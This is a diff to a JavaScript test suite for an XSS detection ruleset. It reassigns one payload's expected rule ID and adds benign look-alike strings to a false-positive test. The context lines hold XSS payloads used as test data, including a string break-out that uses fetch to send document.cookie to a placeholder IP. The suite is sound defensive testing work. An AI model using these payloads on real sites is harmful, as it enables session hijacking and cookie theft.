@@ -62,7 +62,7 @@ describe('XSS techniques (own knowledge, each in raw, URL and double URL encodin
     ['string break-out calling print()', "';print()//", 200106],
     ['string break-out calling fetch', "\";fetch('//203.0.113.9/'+document.cookie)//", 200106],
     ['window.onerror pointed at a sink', 'window.onerror=alert;throw 1', 200118],
-    ['a sink renamed and called', 'x=alert,x(1)', 200118],
+    ['a sink renamed and called', 'x=alert,x(1)', 200141],
     ['navigation to window.name', "';location=name//", 200118],
     ['spaced with() scope', 'with ( document ) write(1)', 200132],
     ['Netscape JavaScript entity', '&{alert(1)};', 200114],
@@ -147,9 +147,13 @@ describe('XSS look-alikes that must not match', () => {
     ['nested form field names', 'items[0][name]=a&items[1][qty]=2'],
     ['a path with regex-like segments', '/a/b/!=/c/d'],
     ['an empty JSON array written with spaces', '{"items": [ ], "n": 0}'],
+    ['a form field naming a dialog kind', 'type=prompt, label(optional)'],
+    ['a workflow step naming a confirmation', 'action=confirm; step(2)'],
   ])('%s', (_what, value) => {
     expect(alertsAt(1, value)).toBe(false);
-    expect(xssIds(value).filter((id) => [200127, 200128, 200129, 200130, 200131, 200132, 200134, 200135, 200136, 200137, 200138].includes(id))).toEqual([]);
+    expect(xssIds(value).filter((id) => [200127, 200128, 200129, 200130, 200131, 200132, 200134, 200135, 200136, 200137, 200138, 200141].includes(id))).toEqual(
+      [],
+    );
   });
 
   it('keeps benign SVG and styled markup free of script effects', () => {
